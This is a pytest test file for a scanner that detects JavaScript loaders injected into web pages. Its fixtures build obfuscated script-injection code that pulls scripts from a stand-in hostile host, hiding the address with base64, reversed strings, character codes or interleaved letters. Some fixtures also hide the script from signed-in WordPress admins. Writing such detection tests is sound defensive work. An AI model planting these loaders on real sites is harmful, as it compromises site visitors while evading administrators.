"""Second facts of loaders: another's snippet, words in a list, letters strewn in, whether it is
there already, and who is signed in."""

from __future__ import annotations

import pytest

from cyberscan.model.verdict import Outcome, Severity, Verdict
from tests.checks.content.reading import b64
from tests.checks.content.scripting import EVIL, in_file, on_page

ADD = "document.head.appendChild(s)"
MAKE = "var s=document.createElement('script');"
HIDDEN = f"atob('{b64(EVIL + '/kerja/label.js?id=')}')"
MENU = (
    "document.querySelectorAll('.menu .anak').forEach(function(a){a.addEventListener('click',"
    "function(e){e.preventDefault();a.classList.toggle('buka');a.querySelector('ul').hidden=!1;"
    "document.querySelector('.tirai').classList.toggle('buka')})});"
    "document.querySelector('.atas').addEventListener('click',function(){scrollTo(0,0)});"
)
PUSH = "w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});"


def accused(verdict: Verdict) -> bool:
    return verdict.outcome is Outcome.FAIL and verdict.message != "look"


def tag(address: str, push: str = PUSH) -> str:
    return (
        f"(function(w,d,s,l,i){{{push}var f=d.getElementsByTagName(s)[0],j=d.createElement(s);"
        f"j.async=true;j.src={address}+i;f.parentNode.insertBefore(j,f)}})"
        "(window,document,'script','dataLayer','GTM-AB12');"
    )


BACK = f"'{(EVIL + '/kerja/label.js?id=')[::-1]}'.split('').reverse().join('')"
CODES = f"String.fromCharCode({','.join(str(ord(c)) for c in EVIL + '/kerja/label.js?id=')})"
ANALYTICS = "w['GoogleAnalyticsObject']='ga';w.ga=w.ga||function(){};"
PIXEL = "if(!w.fbq){var n=w.fbq=function(){};w._fbq=n}"


@pytest.mark.parametrize(
    ("address", "push"),
    [
        (HIDDEN, PUSH),
        (BACK, PUSH),
        (CODES, PUSH),
        (HIDDEN, PUSH.replace("'", '"')),
        (HIDDEN, ANALYTICS),
        (BACK, PIXEL),
        (CODES, "w._hjSettings={hjid:1};"),
    ],
)
def test_another_s_snippet_with_an_address_in_disguise(address: str, push: str) -> None:
    verdict = on_page(tag(address, push))
    assert accused(verdict), verdict.evidence


@pytest.mark.parametrize(
    "source",
    [
        tag("'https://www.googletagmanager.com/gtm.js?id='"),
        # One's own server for the tags, one of the region's, and a vendor's in the clear.
        tag(f"atob('{b64('https://label.contoh.go.test/gtm.js?id=')}')"),
        tag("'https://label.pemda.example/gtm.js?id='"),
        tag("'https://www.googletagmanager.com/'+'gtm.js?id='"),
        tag(f"atob('{b64('https://www.googletagmanager.com/gtm.js?id=')}')"),
        tag(f"atob('{b64('/gtm.js?id=')}')"),
        # Another's loader in disguise, which says nothing of Google.
        tag(HIDDEN, "w[l]=w[l]||[];w[l].push({mulai:1});"),
    ],
)
def test_snippets_in_the_clear_and_other_loaders_are_not_accused(source: str) -> None:
    verdict = on_page(source)
    assert not accused(verdict), verdict.evidence


WORDS = ("document", "createElement", "script", "src", EVIL, "/pustaka/kursor.js", "appendChild")


def listed(words: tuple[str, ...], decoder: str) -> str:
    every = ",".join(f"'{b64(word)}'" for word in words)
    return (
        f"(function(k){{var v=k.map(function(x){{return {decoder}(x)}}),d=window[v[0]],"
        f"e=d[v[1]](v[2]);e[v[3]]=v[4]+v[5];d.head[v[6]](e)}})([{every}]);"
    )


@pytest.mark.parametrize(
    "source",
    [
        listed(WORDS, "window[['at','ob'].join('')]"),
        listed(WORDS, "self['a'+'tob']"),
        listed(WORDS, 'window["at" + "ob"]'),
        listed((*WORDS, "async", "head"), "self[['a','t','ob'].join('')]"),
        listed((WORDS[0], WORDS[1], "iframe", *WORDS[3:]), "window['ato'+'b']"),
        listed((*WORDS[:4], EVIL + "/v", "/", "appendChild"), "top['at'+'ob']"),
    ],
)
def test_a_list_of_hidden_words_that_makes_an_element(source: str) -> None:
    verdict = on_page(source)
    assert accused(verdict), verdict.evidence


@pytest.mark.parametrize(
    "source",
    [
        # Words of a language, keys, pictures, settings: no call among them.
        listed(
            ("Beranda", "Profil", "Layanan", EVIL, "Kontak", "Cari", "Tutup"), "self['at'+'ob']"
        ),
        listed(("judul", "isi", "tanggal", EVIL + "/a.png", "x", "y", "zz"), "atob"),
        # A call, and no address; one on the site's own host.
        listed((*WORDS[:4], "/js", "/menu.js", "appendChild"), "window['at'+'ob']"),
        listed((*WORDS[:4], "https://www.contoh.go.test", "/m.js", "appendChild"), "atob"),
        # In the clear.
        (
            "var v=['createElement','script','src','https://cdn.tema.example/a.js','appendChild'];"
            "var e=document[v[0]](v[1]);e[v[2]]=v[3];document.head[v[4]](e)"
        ),
        # Some words only are encoded.
        f"var t=['createElement','{b64('Halo')}','{b64(EVIL)}','menu utama'];tulis(atob(t[1]))",
    ],
)
def test_lists_of_other_words_are_not_accused(source: str) -> None:
    verdict = on_page(source)
    assert not accused(verdict), verdict.evidence


def strewn(said: str, step: int, *, back: bool) -> str:
    """Put letters between those of a text; the first and the last are none of it."""
    letters = said[::-1] if back else said
    return "q" + "".join(
        f"{letter}{'xkz(7'[n % 5] * (step - 1)}" for n, letter in enumerate(letters)
    )


BACKWARDS = "function z(a){var b='';for(var i=a.length-2;i>0;i-=2){b+=a[i]}return b}"
FORWARDS = "function z(a){var b='';for(var i=1;i<a.length;i+=2){b+=a[i]}return b}"


def spoken(function: str, *, back: bool, step: int = 2, where: str = "") -> str:
    def z(word: str) -> str:
        return f'z("{strewn(word, step, back=back)}")'

    referrer, url = z("referrer"), z(f"{EVIL}/j.php?v=7")
    return (
        f"{where}(function(){{var d=document,r=d[{referrer}];if(r){{"
        f"var e=d.createElement('script');e.src={url};d.head.appendChild(e)}}{function}}})();"
    )


@pytest.mark.parametrize(
    "source",
    [
        spoken(BACKWARDS, back=True),
        spoken(FORWARDS, back=False),
        spoken(BACKWARDS, back=True, where=MENU),
        spoken(FORWARDS.replace("i+=2", "i=i+2"), back=False, where=MENU),
        spoken(FORWARDS.replace("a[i]", "a.charAt(i)").replace("var i", "let i"), back=False),
        spoken(
            "function z(a){var b='';for(var i=1;i<a.length;i+=3)b=b+a[i];return b}",
            back=False,
            step=3,
        ),
    ],
)
def test_letters_strewn_into_an_address_and_the_names_of_calls(source: str) -> None:
    for verdict in (on_page(source), in_file(source)):
        assert accused(verdict), verdict.evidence


@pytest.mark.parametrize(
    "source",
    [
        # Numbers, names and mail addresses are taken apart so.
        BACKWARDS + 'document.getElementById("tlp").textContent=z("x1k2k3k4k");',
        FORWARDS + f'document.write(z("{strewn("surat@contoh.go.test", 2, back=False)}"));',
        FORWARDS + "var genap=z(document.title);",
        FORWARDS.replace("i+=2", "i++") + f"{MAKE}s.src=z('x/js/menu.js');{ADD}",
        BACKWARDS + f"{MAKE}s.src='https://cdn.tema.example/a.js';{ADD}",
        FORWARDS + f'{MAKE}s.src=z("{strewn("/js/menu.js", 2, back=False)}");{ADD}',
    ],
)
def test_letters_that_are_taken_apart_for_other_ends_are_not_accused(source: str) -> None:
    verdict = on_page(source)
    assert not accused(verdict), verdict.evidence


def once(test: str, *, make: str = MAKE, url: str = EVIL + "/kerja/mulai.js?v=1") -> str:
    return f"(function(){{{make}s.src='{url}';{test}}})();"


LIST = "var l=document.getElementsByTagName('script'),ada=false;"
SAME = LIST + "for(var i=0;i<l.length;i++){if(l[i].src===s.src){ada=true}}if(!ada){" + ADD + "}"


def coded(source: str) -> str:
    return f"eval(String.fromCharCode({','.join(str(ord(c)) for c in source)}));"


@pytest.mark.parametrize(
    "source",
    [
        "/* jejak */" + coded(once(SAME)) + MENU,
        MENU + coded(once(SAME)),
        MENU + f"eval(atob('{b64(once(SAME))}'));",
        coded(once(SAME.replace("===", "=="))) + MENU,
        coded(once(SAME.replace("l[i].src===s.src", "s.src===l[i].src"))) + MENU,
        coded(once(LIST + "for(var t of l){if(t.src!==s.src){" + ADD + ";break}}")) + MENU,
    ],
)
def test_a_hidden_script_that_sees_whether_it_is_there_already(source: str) -> None:
    verdict = in_file(source)
    assert accused(verdict), verdict.evidence


@pytest.mark.parametrize(
    "source",
    [
        # In the clear; from the site itself; part of what it stands in; another comparison.
        once(SAME) + MENU,
        coded(once(SAME, url="/js/mulai.js")) + MENU,
        MENU.replace("scrollTo(0,0)", "muat()")
        + f"function muat(){{eval(atob('{b64(once(SAME))}'))}}",
        coded(once("if(document.images[0].src==='/a.png'){" + ADD + "}")) + MENU,
        coded(MENU + once(SAME, url="/js/x.js")),
        f"var g=document.images;if(g[0].src===g[1].src){{g[1].remove()}}{MENU}",
    ],
)
def test_other_comparisons_are_not_accused(source: str) -> None:
    verdict = in_file(source)
    assert not accused(verdict), verdict.evidence


MEMBER = "/wordpress_logged_in|wp-settings-/.test(document.cookie)"
BAR = "document.getElementById('wpadminbar')"
DAILY = "localStorage.setItem('_k',Date.now())"
OPEN = f"{MAKE}s.src='{EVIL}/w/c.js';{ADD}"


@pytest.mark.parametrize(
    "source",
    [
        f"if(!{MEMBER}&&!localStorage.getItem('_k')){{{DAILY};{OPEN}}}",
        f"addEventListener('load',function(){{if(!{BAR}){{{DAILY};{OPEN}}}}})",
        f"if(document.body.className.indexOf('logged-in')<0){{sessionStorage._k=1;{OPEN}}}",
        f"if({BAR})throw 0;if(!localStorage._k){{localStorage._k=1;{OPEN}}}",
        f"var m={MEMBER}||{BAR};if(!m){{document.cookie='_k=1;max-age=86400';{OPEN}}}",
        MENU + f"if(!{BAR}&&!sessionStorage.getItem('k')){{sessionStorage.setItem('k',1);{OPEN}}}",
    ],
)
def test_a_stranger_s_script_now_and_then_and_never_for_who_is_signed_in(source: str) -> None:
    verdict = in_file(source)
    assert accused(verdict), verdict.evidence


@pytest.mark.parametrize(
    "source",
    [
        # Who counts leaves those out who write the pages; a notice is shown once a day.
        f"if(!{MEMBER}){{{OPEN}}}",
        f"if(!localStorage.getItem('_k')){{{DAILY};{OPEN}}}",
        f"if(!{BAR}&&!localStorage._k){{{DAILY};document.querySelector('.kabar').hidden=!1}}",
        f"if(!{BAR}){{{DAILY};{MAKE}s.src='/js/kabar.js';{ADD}}}",
        f"if(!{BAR}){{{DAILY};{MAKE}s.src='https://www.googletagmanager.com/gtag/js';{ADD}}}",
        f"if(!{BAR}){{{DAILY};{OPEN}}}" + MENU * 9,
        f"if(!{BAR}){{{DAILY};{OPEN.replace('jahat', 'situs')}}}",
    ],
)
def test_one_of_both_alone_is_not_accused(source: str) -> None:
    verdict = in_file(source)
    assert not accused(verdict), verdict.evidence
    assert verdict.severity in {None, Severity.INFO}
